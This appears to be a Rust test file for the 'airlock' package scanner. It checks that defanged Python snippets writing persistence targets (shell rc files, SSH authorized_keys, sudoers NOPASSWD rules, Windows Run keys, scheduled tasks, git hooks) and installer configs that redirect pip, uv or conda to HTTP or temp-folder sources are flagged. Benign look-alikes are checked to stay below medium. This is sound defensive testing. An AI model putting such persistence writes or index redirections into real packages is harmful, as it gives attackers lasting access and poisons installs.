//! Tester t11's persistence and index-configuration misses: persistence targets read through one
//! path fold, every kind of write (open modes, `os.open` flags, path objects, `fileinput`,
//! copies, `tee`/`cp` argv, redirections), Windows Run keys and the Startup folder, task
//! schedulers; and requirement files, pip and uv configuration that send installs to another
//! index. Each case is defanged (payloads only `echo`, hosts under `example.invalid`) and
//! scanned with the library; nothing is executed. Benign look-alikes must stay below medium.

use std::path::Path;

use airlock::analyse::BudgetLimits;
use airlock::finding::Severity;
use airlock::scan::{scan_file, FileReport};

#[path = "support/pysrc.rs"]
mod pysrc;
use pysrc::{package, worst};

fn summary(r: &FileReport) -> Vec<String> {
    r.findings
        .iter()
        .map(|f| format!("{} {} {}", f.rule.id, f.severity, f.message))
        .collect()
}

const RULE: &str = "python-startup-write";

/// Scan each `(case, source)` as a package's `__init__.py` and note in `wrong` the cases whose
/// worst [`RULE`] severity is not `want`.
fn check_init(
    root: &Path,
    cases: &[(&str, &str)],
    want: Option<Severity>,
    wrong: &mut Vec<String>,
) {
    for (case, src) in cases {
        let p = package(root, case, "__init__.py", src);
        let r = scan_file(&p, BudgetLimits::default());
        let got = worst(&r, RULE);
        if got != want {
            wrong.push(format!("{case}: want {want:?}, got {:?}", summary(&r)));
        }
    }
}

/// Persistence at import, one case per kind of target and write (tester t11, ps00–ps33).
#[test]
fn persistence_targets_and_writes_at_import_are_high() {
    let dir = tempfile::tempdir().expect("tempdir");
    let cases: &[(&str, &str)] = &[
        // Targets read through the path fold.
        ("concat", "import os\nopen(os.path.expanduser('~') + '/.bash' + 'rc', 'a').write('echo airlock-test\\n')\n"),
        ("join-pieces", "import os\nd = os.path.join(os.path.expanduser('~'), '.ssh')\nopen(os.path.join(d, 'authorized_' + 'keys'), 'a').write('ssh-ed25519 AAAA x@example.invalid\\n')\n"),
        ("fstring", "import os\nh = os.environ['HOME']\nopen(f'{h}/.zshrc', 'a').write('echo airlock-test\\n')\n"),
        ("augmented", "import os\np = os.path.expanduser('~')\np += '/.profile'\nopen(p, 'a').write('echo airlock-test\\n')\n"),
        // Writes.
        ("path-open", "import pathlib\nwith (pathlib.Path.home() / '.bashrc').open('a') as f:\n    f.write('echo airlock-test\\n')\n"),
        ("os-open", "import os\nfd = os.open(os.path.expanduser('~/.bashrc'), os.O_WRONLY | os.O_APPEND)\nos.write(fd, b'echo airlock-test\\n')\n"),
        ("fileinput", "import os, fileinput\nfor line in fileinput.input(os.path.expanduser('~/.bashrc'), inplace=True):\n    print(line, end='')\n"),
        ("rename", "import pathlib\npathlib.Path('/tmp/x').rename(pathlib.Path.home() / '.bash_login')\n"),
        ("tee", "import os, subprocess\nsubprocess.run(['tee', '-a', os.path.expanduser('~/.bashrc')], input=b'echo airlock-test\\n')\n"),
        ("cp", "import os, subprocess\nsubprocess.run(['cp', '/tmp/x', os.path.expanduser('~/.bashrc')])\n"),
        ("redirect", "import os\nos.system('echo airlock-test >> \"$HOME/.bash_profile\" 2>&1')\n"),
        // More targets.
        ("fish", "import os\nopen(os.path.expanduser('~/.config/fish/config.fish'), 'a').write('echo airlock-test\\n')\n"),
        ("bash-logout", "import os\nopen(os.path.expanduser('~/.bash_logout'), 'a').write('echo airlock-test\\n')\n"),
        ("ssh-config", "from pathlib import Path\n(Path.home() / '.ssh' / 'config').open('a').write('Host *\\n  ProxyCommand echo airlock-test\\n')\n"),
        ("ssh-rc", "import os\nopen(os.path.expanduser('~/.ssh/rc'), 'w').write('echo airlock-test\\n')\n"),
        ("authorized-keys2", "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys2'), 'a').write('ssh-ed25519 AAAA x@example.invalid\\n')\n"),
        ("gitconfig", "import os\nopen(os.path.expanduser('~/.gitconfig'), 'a').write('[core]\\n  fsmonitor = echo airlock-test\\n')\n"),
        ("pip-conf", "import os\nopen(os.path.expanduser('~/.config/pip/pip.conf'), 'w').write('[global]\\nindex-url = https://c.example.invalid/simple\\n')\n"),
        ("pip-conf-legacy", "from pathlib import Path\n(Path.home() / '.pip' / 'pip.conf').write_text('[global]\\nindex-url = https://c.example.invalid/simple\\n')\n"),
        ("desktop", "import os\nopen(os.path.expanduser('~/.local/share/applications/x.desktop'), 'w').write('[Desktop Entry]\\nExec=echo airlock-test\\n')\n"),
        ("sudoers", "open('/etc/sudoers.d/x', 'w').write('ALL ALL=(ALL) NOPASSWD: ALL\\n')\nimport os\n"),
        ("startup-folder", "import os\nopen(os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'x.bat'), 'w').write('echo airlock-test')\n"),
        // Windows Run keys.
        ("winreg-run", "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'cmd /c echo airlock-test')\n"),
        ("winreg-runonce-with", "import winreg as w\nwith w.CreateKey(w.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\RunOnce') as k:\n    w.SetValueEx(k, 'x', 0, w.REG_SZ, 'cmd /c echo airlock-test')\n"),
        ("reg-add", "import subprocess\nsubprocess.run(['reg', 'add', r'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', '/v', 'x', '/d', 'cmd /c echo airlock-test', '/f'])\n"),
        // Schedulers.
        ("at", "import subprocess\nsubprocess.run(['at', 'now', '+', '1', 'minute'], input=b'echo airlock-test\\n')\n"),
        ("schtasks-upper", "import subprocess\nsubprocess.run(['SCHTASKS.EXE', '/Create', '/SC', 'ONLOGON', '/TN', 'x', '/TR', 'cmd /c echo airlock-test'])\n"),
        ("schtasks-in-cmd", "import os\nos.system('cmd /c schtasks /create /sc onlogon /tn x /tr \"cmd /c echo airlock-test\"')\n"),
        ("crontab-seq", "import subprocess\nCMD = ['crontab', '-']\nsubprocess.run(CMD, input=b'* * * * * echo airlock-test\\n')\n"),
    ];
    let mut wrong = Vec::new();
    check_init(dir.path(), cases, Some(Severity::High), &mut wrong);
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Reads of the same files, queries of the same tools, the package's own config and a write
/// kept in an uncalled function stay below medium.
#[test]
fn reads_queries_and_own_config_stay_below_medium() {
    let dir = tempfile::tempdir().expect("tempdir");
    let none: &[(&str, &str)] = &[
        ("read-bashrc", "import os\nwith open(os.path.expanduser('~/.bashrc')) as f:\n    RC = f.read()\n"),
        ("read-bashrc-path", "import pathlib\nRC = (pathlib.Path.home() / '.bashrc').open('r').read()\n"),
        ("read-gitconfig", "import os, configparser\ncfg = configparser.ConfigParser()\ncfg.read(os.path.expanduser('~/.gitconfig'))\n"),
        ("os-open-read", "import os\nfd = os.open(os.path.expanduser('~/.bashrc'), os.O_RDONLY)\n"),
        ("fileinput-read", "import os, fileinput\nLINES = list(fileinput.input(os.path.expanduser('~/.bashrc')))\n"),
        ("copy-from", "import os, shutil, subprocess\nshutil.copy(os.path.expanduser('~/.bashrc'), '/tmp/rc.bak')\nsubprocess.run(['cp', os.path.expanduser('~/.gitconfig'), '/tmp/gc.bak'])\n"),
        ("crontab-l", "import subprocess\ntry:\n    CRON = subprocess.run(['crontab', '-l'], capture_output=True).stdout\nexcept Exception:\n    CRON = b''\n"),
        ("systemctl-is-enabled", "import subprocess\nX = subprocess.run(['systemctl', 'is-enabled', 'docker'], capture_output=True).returncode\n"),
        ("reg-query", "import subprocess\nsubprocess.run(['reg', 'query', r'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'], capture_output=True)\n"),
        ("own-config", "import os\nd = os.path.join(os.path.expanduser('~'), '.config', 'demo')\nos.makedirs(d, exist_ok=True)\nopen(os.path.join(d, 'config.toml'), 'w').write('x = 1\\n')\n"),
        ("winreg-read", "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\nVALUE = winreg.QueryValueEx(k, 'demo')\n"),
        ("webbrowser", "import webbrowser, os\nif os.environ.get('DEMO_OPEN'):\n    webbrowser.open('https://docs.example.invalid/.bashrc')\n"),
    ];
    let low: &[(&str, &str)] = &[(
        "function-write",
        "import os\ndef activate_global():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n        f.write('eval \"$(register-python-argcomplete x)\"\\n')\n",
    )];
    let mut wrong = Vec::new();
    check_init(dir.path(), none, None, &mut wrong);
    check_init(dir.path(), low, Some(Severity::Low), &mut wrong);
    assert!(wrong.is_empty(), "{wrong:#?}");
}

const INDEX: &str = "requirements-extra-index";

/// Write `text` at `rel` (folders included) under `root/case`, scan it, and note in `wrong`
/// when its worst [`INDEX`] severity is not `want`.
fn index_case(
    root: &Path,
    case: &str,
    rel: &str,
    text: &str,
    want: Option<Severity>,
    wrong: &mut Vec<String>,
) {
    let p = root.join(case).join(rel);
    std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
    std::fs::write(&p, text).expect("write");
    let r = scan_file(&p, BudgetLimits::default());
    let got = worst(&r, INDEX);
    if got != want {
        wrong.push(format!(
            "{case} ({rel}): want {want:?}, got {:?}",
            summary(&r)
        ));
    }
}

/// Requirement files named by pip-tools or by their folder, pip's configuration, uv's and
/// Poetry's tables in `pyproject.toml`, and lock files over plain HTTP (tester t11, 1.9).
#[test]
fn index_configuration_outside_requirements_txt_is_read() {
    use Severity::*;
    let dir = tempfile::tempdir().expect("tempdir");
    let extra = "--extra-index-url https://pkgs.example.invalid/simple\ntorch==2.5.1\n";
    let cases: &[(&str, &str, &str, Option<Severity>)] = &[
        ("in", "requirements.in", extra, Some(Medium)),
        ("dev-in", "requirements-dev.in", extra, Some(Medium)),
        ("folder", "requirements/base.txt", extra, Some(Medium)),
        ("reqs", "reqs/prod.txt", "Django>=4.2,<5 ; python_version >= '3.10'\n-r base.txt\n--trusted-host pkgs.example.invalid\n", Some(Medium)),
        ("pip-conf", "pip.conf", "[global]\nextra-index-url = https://pkgs.example.invalid/simple\ntrusted-host = pkgs.example.invalid\n", Some(Medium)),
        ("pip-ini-continued", "pip.ini", "[install]\nextra_index_url =\n    https://a.example.invalid/simple\n    http://b.example.invalid/simple\n", Some(Medium)),
        ("uv-index-http", "pyproject.toml", "[project]\nname = 'x'\nversion = '1'\n[[tool.uv.index]]\nurl = 'http://pkgs.example.invalid/simple'\n", Some(Medium)),
        // Per-dependency sources and a Pipfile.lock's indexes over plain HTTP (t18 p12, p16-p18).
        ("uv-source-url-http", "pyproject.toml", "[project]\nname = 'x'\nversion = '1'\ndependencies = ['helper']\n[tool.uv.sources]\nhelper = { url = 'http://files.example.invalid/helper-1.0.tar.gz' }\n", Some(Medium)),
        ("uv-source-git-http", "pyproject.toml", "[tool.uv.sources]\nhelper = [{ git = 'http://git.example.invalid/helper.git', marker = \"sys_platform == 'linux'\" }]\n", Some(Medium)),
        ("poetry-git-http", "pyproject.toml", "[tool.poetry.group.dev.dependencies]\nhelper = { git = 'http://git.example.invalid/helper.git' }\n", Some(Medium)),
        ("pipfile-lock-http", "Pipfile.lock", "{\"_meta\": {\"sources\": [{\"name\": \"x\", \"url\": \"http://pkgs.example.invalid/simple\", \"verify_ssl\": false}]}, \"default\": {}, \"develop\": {}}\n", Some(Medium)),
        ("uv-index-unsafe", "pyproject.toml", "[tool.uv]\nindex-strategy = 'unsafe-best-match'\n[[tool.uv.index]]\nname = 'x'\nurl = 'https://pkgs.example.invalid/simple'\n", Some(Medium)),
        ("uv-insecure-host", "pyproject.toml", "[tool.uv]\nallow-insecure-host = ['pkgs.example.invalid']\n", Some(Medium)),
        ("poetry-http", "pyproject.toml", "[[tool.poetry.source]]\nname = 'x'\nurl = 'http://pkgs.example.invalid/simple'\n", Some(Medium)),
        ("uv-lock-http", "uv.lock", "version = 1\n[[package]]\nname = \"torch\"\nversion = \"2.5.1\"\nsource = { registry = \"http://pkgs.example.invalid/simple\" }\nsdist = { url = \"http://pkgs.example.invalid/torch-2.5.1.tar.gz\" }\n", Some(Medium)),
        // VCS URLs over plain HTTP, editable or not; an option after a line end pip's
        // `str.splitlines` knows (a vertical tab, a record separator); a UTF-16 file.
        ("pylock-archive-http", "pylock.toml", "lock-version = \"1.0\"\n[[packages]]\nname = \"x\"\nversion = \"1.0\"\narchive = { url = \"http://files.example.invalid/x-1.0.tar.gz\" }\n", Some(Medium)),
        ("pylock-vcs-http", "pylock.toml", "lock-version = \"1.0\"\n[[packages]]\nname = \"x\"\nvcs = { type = \"git\", url = \"http://git.example.invalid/x.git\", commit-id = \"00\" }\n", Some(Medium)),
        ("pylock-wheel-http-hashed", "pylock.toml", "lock-version = \"1.0\"\n[[packages]]\nname = \"x\"\nversion = \"1.0\"\nwheels = [{ url = \"http://files.example.invalid/x-1.0-py3-none-any.whl\", hashes = { sha256 = \"00\" } }]\n", Some(Low)),
        ("pep621-direct-http", "pyproject.toml", "[project]\nname = \"x\"\nversion = \"1\"\ndependencies = [\"helper @ http://files.example.invalid/helper-1.0.tar.gz\"]\n", Some(Medium)),
        ("metadata-direct-http", "x-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: x\nVersion: 1.0\nRequires-Dist: helper @ http://files.example.invalid/helper-1.0.tar.gz\n", Some(Medium)),
        ("metadata-direct-https", "y-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: y\nVersion: 1.0\nRequires-Dist: helper @ https://files.example.invalid/helper-1.0.tar.gz\n", None),
        ("vcs-http", "requirements.txt", "x @ git+http://git.example.invalid/x.git\n", Some(Medium)),
        ("editable-vcs-http", "requirements.txt", "-e git+http://git.example.invalid/x.git#egg=x\n", Some(Medium)),
        ("editable-vcs-https", "requirements.txt", "-e git+https://git.example.invalid/x.git#egg=x\n", Some(Low)),
        ("vertical-tab", "requirements.txt", "requests==2.31.0\x0b--extra-index-url https://pkgs.example.invalid/simple\n", Some(Medium)),
        ("record-separator", "requirements.txt", "requests==2.31.0\x1e--extra-index-url https://pkgs.example.invalid/simple\n", Some(Medium)),
        ("poetry-lock-http", "poetry.lock", "[[package]]\nname = \"x\"\nversion = \"1.0\"\nfiles = []\n[package.source]\ntype = \"legacy\"\nurl = \"http://pkgs.example.invalid/simple\"\nreference = \"x\"\n", Some(Medium)),
        // uv's own configuration; conda channels over HTTP; packages from a folder anyone can
        // write (t18 p08, p14, p21, p24).
        ("uv-toml-unsafe", "uv.toml", "extra-index-url = [\"https://pkgs.example.invalid/simple\"]\nindex-strategy = \"unsafe-best-match\"\n", Some(Medium)),
        ("uv-toml-index-http", "uv.toml", "[[index]]\nname = \"corp\"\nurl = \"http://pkgs.example.invalid/simple\"\n", Some(Medium)),
        ("condarc-http", ".condarc", "channels:\n  - http://conda.example.invalid/channel\n  - defaults\n", Some(Medium)),
        ("condarc-no-ssl", ".condarc", "channels:\n  - conda-forge\nssl_verify: false\n", Some(Medium)),
        ("environment-http-channel", "environment.yml", "name: x\nchannels:\n  - http://conda.example.invalid/channel\ndependencies:\n  - python=3.11\n", Some(Medium)),
        ("req-file-tmp", "requirements.txt", "x @ file:///tmp/.x/x-1.0-py3-none-any.whl\n", Some(Medium)),
        ("req-path-tmp", "requirements.txt", "/var/tmp/x-1.0-py3-none-any.whl\n", Some(Medium)),
        ("req-find-links-tmp", "requirements.txt", "--find-links /dev/shm/wheels\nx==1.0\n", Some(Medium)),
        // The same folders in the other places a source can be named (t22 inst rows).
        ("condarc-file-tmp", ".condarc", "channels:\n  - file:///tmp/conda-chan\n", Some(Medium)),
        ("condarc-shm", ".condarc", "channel_alias: /dev/shm/chan\n", Some(Medium)),
        ("uv-toml-index-path", "uv.toml", "[[index]]\nname = \"w\"\nurl = \"/var/tmp/simple\"\ndefault = true\n", Some(Medium)),
        ("uv-toml-pip-unsafe", "uv.toml", "[pip]\nextra-index-url = [\"https://pkgs.example.invalid/simple\"]\nindex-strategy = \"unsafe-best-match\"\n", Some(Medium)),
        ("pylock-wheel-path", "pylock.toml", "lock-version = \"1.0\"\n[[packages]]\nname = \"x\"\nversion = \"1.0\"\nwheels = [{ path = \"/dev/shm/x-1.0-py3-none-any.whl\", hashes = { sha256 = \"00\" } }]\n", Some(Medium)),
        // pdm's `files[]` are artifacts as uv's `wheels[]` are (t22 inst/r2l).
        ("pdm-lock-http", "pdm.lock", "[metadata]\nlock_version = \"4.5.0\"\n[[package]]\nname = \"helper\"\nversion = \"1.0\"\nfiles = [\n    {url = \"http://pkgs.example.invalid/helper-1.0.tar.gz\"},\n]\n", Some(Medium)),
        ("pdm-lock-file-tmp", "pdm.lock", "[metadata]\nlock_version = \"4.5.0\"\n[[package]]\nname = \"helper\"\nversion = \"1.0\"\nfiles = [\n    {file = \"/tmp/.x/helper-1.0-py3-none-any.whl\", hash = \"sha256:00\"},\n]\n", Some(Medium)),
        ("uv-lock-registry-file", "uv.lock", "version = 1\n[[package]]\nname = \"x\"\nversion = \"1.0\"\nsource = { registry = \"file:///tmp/simple\" }\n", Some(Medium)),
        ("uv-source-path-tmp", "pyproject.toml", "[project]\nname = \"x\"\ndependencies = [\"helper\"]\n[tool.uv.sources]\nhelper = { path = \"/tmp/helper\" }\n", Some(Medium)),
        ("pep621-file-tmp", "pyproject.toml", "[project]\nname = \"x\"\ndependencies = [\"helper @ file:///tmp/helper-1.0-py3-none-any.whl\"]\n", Some(Medium)),
        ("build-requires-file-shm", "pyproject.toml", "[build-system]\nrequires = [\"helper @ file:///dev/shm/helper-1.0-py3-none-any.whl\"]\n", Some(Medium)),
        ("setup-cfg-file-tmp", "setup.cfg", "[options]\ninstall_requires =\n    helper @ file:///tmp/helper-1.0.tar.gz\n", Some(Medium)),
        ("pipfile-http", "Pipfile", "[[source]]\nurl = \"http://pkgs.example.invalid/simple\"\nverify_ssl = false\nname = \"internal\"\n\n[packages]\nhelper = \"*\"\n", Some(Medium)),
        ("pipfile-tmp-path", "Pipfile", "[[source]]\nurl = \"https://pypi.org/simple\"\nverify_ssl = true\nname = \"pypi\"\n\n[packages]\nhelper = {path = \"/tmp/helper\"}\n", Some(Medium)),
        ("uv-lock-path-tmp", "uv.lock", "version = 1\n[[package]]\nname = \"x\"\nversion = \"1.0\"\nsource = { path = \"/tmp/.x/x-1.0-py3-none-any.whl\" }\nwheels = [{ filename = \"x-1.0-py3-none-any.whl\" }]\n", Some(Medium)),
    ];
    let mut wrong = Vec::new();
    for (case, rel, text, want) in cases {
        index_case(dir.path(), case, rel, text, *want, &mut wrong);
    }
    let mut utf16 = vec![0xff, 0xfe];
    for u in "--extra-index-url https://pkgs.example.invalid/simple\ntorch==2.5.1\n".encode_utf16()
    {
        utf16.extend_from_slice(&u.to_le_bytes());
    }
    let p = dir.path().join("utf16").join("requirements.txt");
    std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
    std::fs::write(&p, &utf16).expect("write");
    let r = scan_file(&p, BudgetLimits::default());
    if worst(&r, INDEX) != Some(Medium) {
        wrong.push(format!("utf16: {:?}", summary(&r)));
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    // 300,000 keys before `channels:` stop the YAML reading at its event bound: said, not
    // silently clean (tester t23 rc_many_keys).
    let many: String = (0..300_000)
        .map(|i| format!("k{i}: v\n"))
        .collect::<String>()
        + "channels:\n  - http://conda.example.invalid/channel\n";
    let p = dir.path().join("many").join(".condarc");
    std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
    std::fs::write(&p, many).expect("write");
    let r = scan_file(&p, BudgetLimits::default());
    assert!(
        r.findings.iter().any(|f| f.rule.id == "resource-limit"),
        "{:?}",
        summary(&r)
    );
}

/// Prose and plain lists in the same places, one index over HTTPS, uv's explicit or
/// first-index indexes, and hashed or HTTPS lock entries stay below medium.
#[test]
fn ordinary_installer_configuration_stays_below_medium() {
    use Severity::*;
    let dir = tempfile::tempdir().expect("tempdir");
    let cases: &[(&str, &str, &str, Option<Severity>)] = &[
        ("readme", "requirements/README.txt", "Use --extra-index-url https://pkgs.example.invalid/simple\nwhen you need the CUDA builds.\n", None),
        ("notes-in", "requirements-notes.in", "These files are compiled with pip-compile.\n", None),
        ("plain-in", "requirements.in", "requests>=2\nnumpy\n-c constraints.txt\n", None),
        ("index-only", "pip.conf", "[global]\nindex-url = https://mirror.example.invalid/simple\ntimeout = 60\n", Some(Low)),
        ("uv-explicit", "pyproject.toml", "[[tool.uv.index]]\nname = 'pytorch-cpu'\nurl = 'https://download.pytorch.org/whl/cpu'\nexplicit = true\n[tool.uv.sources]\ntorch = { index = 'pytorch-cpu' }\n", None),
        ("uv-first-index", "pyproject.toml", "[[tool.uv.index]]\nname = 'corp'\nurl = 'https://pkgs.example.invalid/simple'\n", Some(Low)),
        ("uv-source-https", "pyproject.toml", "[tool.uv.sources]\nhelper = { git = 'https://github.com/org/helper', tag = 'v1' }\nlocal = { path = '../local', editable = true }\n", None),
        ("pipfile-pypi", "Pipfile", "[[source]]\nurl = \"https://pypi.org/simple\"\nverify_ssl = true\nname = \"pypi\"\n\n[packages]\nrequests = \"*\"\nmine = {path = \".\", editable = true}\n", None),
        ("pipfile-lock-pypi", "Pipfile.lock", "{\"_meta\": {\"sources\": [{\"name\": \"pypi\", \"url\": \"https://pypi.org/simple\", \"verify_ssl\": true}]}, \"default\": {}, \"develop\": {}}\n", None),
        ("poetry-https", "pyproject.toml", "[[tool.poetry.source]]\nname = 'x'\nurl = 'https://pkgs.example.invalid/simple'\npriority = 'supplemental'\n", None),
        ("uv-lock-pypi", "uv.lock", "version = 1\n[[package]]\nname = \"torch\"\nversion = \"2.5.1\"\nsource = { registry = \"https://pypi.org/simple\" }\n", None),
        ("uv-lock-http-hashed", "uv.lock", "version = 1\n[[package]]\nname = \"torch\"\nversion = \"2.5.1\"\nsource = { registry = \"http://pkgs.example.invalid/simple\" }\nsdist = { url = \"http://pkgs.example.invalid/torch-2.5.1.tar.gz\", hash = \"sha256:00\" }\n", Some(Low)),
        ("pdm-lock-pypi", "pdm.lock", "[metadata]\nlock_version = \"4.5.0\"\n[[package]]\nname = \"requests\"\nversion = \"2.32.3\"\nfiles = [\n    {file = \"requests-2.32.3-py3-none-any.whl\", hash = \"sha256:00\"},\n    {url = \"https://files.pythonhosted.org/packages/requests-2.32.3.tar.gz\", hash = \"sha256:11\"},\n]\n", None),
        ("pdm-lock-http-hashed", "pdm.lock", "[metadata]\nlock_version = \"4.5.0\"\n[[package]]\nname = \"helper\"\nversion = \"1.0\"\nfiles = [\n    {url = \"http://pkgs.example.invalid/helper-1.0.tar.gz\", hash = \"sha256:00\"},\n]\n", Some(Low)),
        ("not-toml", "pyproject.toml", "[[tool.uv.index]\nurl = 'http://pkgs.example.invalid/simple'\n", None),
        ("pypi-itself", "requirements.txt", "--index-url https://pypi.org/simple\nrequests==2.32.3\n", None),
        ("uv-toml-first-index", "uv.toml", "[[index]]\nname = \"corp\"\nurl = \"https://pkgs.example.invalid/simple\"\n", Some(Low)),
        ("condarc-forge", ".condarc", "channels:\n  - conda-forge\n  - https://conda.example.invalid/channel\nchannel_priority: strict\nssl_verify: true\n", None),
        ("environment-forge", "environment.yml", "name: x\nchannels:\n  - conda-forge\n  - defaults\ndependencies:\n  - numpy\n", None),
        ("req-file-local", "requirements.txt", "x @ file:///home/ci/build/dist/x-1.0-py3-none-any.whl\n./vendor/y-1.0.tar.gz\n", None),
        ("uv-lock-path-local", "uv.lock", "version = 1\n[[package]]\nname = \"x\"\nversion = \"1.0\"\nsource = { editable = \".\" }\n", None),
    ];
    let mut wrong = Vec::new();
    for (case, rel, text, want) in cases {
        index_case(dir.path(), case, rel, text, *want, &mut wrong);
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Tester t28 A8: a requirements or constraints file included from a URL (`-r URL`, `-c URL`,
/// long options, any unambiguous prefix, a short option's value attached) is not in view:
/// low over HTTPS, medium over plain HTTP (anyone on the path writes it) or from a folder any
/// user can write; pip's configuration alike. A local include stays unreported.
#[test]
fn regression_t28_a8_requirements_included_from_a_url() {
    use Severity::*;
    let dir = tempfile::tempdir().expect("tempdir");
    let cases: &[(&str, &str, &str, Option<Severity>)] = &[
        ("r-https", "requirements.txt", "-r https://x.example.invalid/more.txt\nrequests==2.31.0\n", Some(Low)),
        ("r-http", "requirements.txt", "-r http://x.example.invalid/more.txt\n", Some(Medium)),
        ("c-http", "requirements.txt", "-c http://x.example.invalid/c.txt\nrequests==2.31.0\n", Some(Medium)),
        ("c-https-attached", "requirements.txt", "-chttps://x.example.invalid/c.txt\nrequests==2.31.0\n", Some(Low)),
        ("requirement-long", "requirements.txt", "--requirement=https://x.example.invalid/more.txt\n", Some(Low)),
        ("constraint-prefix", "requirements.txt", "--constr http://x.example.invalid/c.txt\nrequests==2.31.0\n", Some(Medium)),
        ("r-tmp", "requirements.txt", "-r /tmp/more.txt\nrequests==2.31.0\n", Some(Medium)),
        ("c-file-tmp", "requirements.txt", "-c file:///dev/shm/c.txt\nrequests==2.31.0\n", Some(Medium)),
        ("pip-conf-constraint", "pip.conf", "[install]\nconstraint = http://x.example.invalid/c.txt\n", Some(Medium)),
        ("local", "requirements.txt", "-r base.txt\n-c ./constraints.txt\n--requirement=dev/requirements.txt\nrequests==2.31.0\n", None),
    ];
    let mut wrong = Vec::new();
    for (case, rel, text, want) in cases {
        index_case(dir.path(), case, rel, text, *want, &mut wrong);
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Tools that run what their configuration names (tester t14): global git settings that name
/// hooks or programs, a logon script in the Windows environment key, Jupyter's server config,
/// git hook templates, shell aliases. A local git setting and a read of the config are not.
#[test]
fn tool_configuration_targets_are_persistence() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut wrong = Vec::new();
    let cases: &[(&str, &str)] = &[
        ("hookspath", "import subprocess, os\nsubprocess.run(['git', 'config', '--global', 'core.hooksPath', os.path.expanduser('~/.cache/.h')])\n"),
        ("templatedir", "import subprocess\nsubprocess.run('git config --global init.templateDir ~/.git-templates', shell=False)\n"),
        ("logon", "import subprocess\nsubprocess.run(['reg', 'add', 'HKCU\\\\Environment', '/v', 'UserInitMprLogonScript', '/d', 'C:\\\\x.bat'])\n"),
        ("jupyter", "import os, subprocess\nopen(os.path.expanduser('~/.jupyter/jupyter_server_config.py'), 'a').write('import os\\n')\nsubprocess.run(['true'])\n"),
        ("aliases", "import subprocess\nfrom pathlib import Path\n(Path.home() / '.bash_aliases').open('a').write(\"alias sudo='echo airlock-test; sudo'\\n\")\nsubprocess.run(['true'])\n"),
        // Written with no other word of the prefilter in the file.
        ("zshenv", "import os\nopen(os.path.expanduser('~/.zshenv'), 'a').write('\\necho airlock-test\\n')\n"),
        ("tmux", "import os\nopen(os.path.expanduser('~/.tmux.conf'), 'a').write('run-shell \"echo airlock-test\"\\n')\n"),
        ("motd", "import os\np = '/etc/update-motd.d/99-x'\nopen(p, 'w').write('#!/bin/sh\\necho airlock-test\\n')\n"),
        ("conda", "import os\nd = os.path.join(os.environ.get('CONDA_PREFIX', '/opt/conda'), 'etc', 'conda', 'activate.d')\nopen(os.path.join(d, 'zz.sh'), 'w').write('echo airlock-test\\n')\n"),
        ("local-bin", "import os\np = os.path.expanduser('~/.local/bin/git')\nopen(p, 'w').write('#!/bin/sh\\necho airlock-test\\n')\n"),
    ];
    check_init(dir.path(), cases, Some(Severity::High), &mut wrong);
    let benign: &[(&str, &str)] = &[
        ("local-git", "import subprocess\nsubprocess.run(['git', 'config', 'core.hooksPath', '.githooks'])\n"),
        ("read-jupyter", "import os, subprocess\nCFG = open(os.path.expanduser('~/.jupyter/jupyter_server_config.py')).read()\nsubprocess.run(['true'])\n"),
    ];
    check_init(dir.path(), benign, None, &mut wrong);
    assert!(wrong.is_empty(), "{wrong:#?}");
}
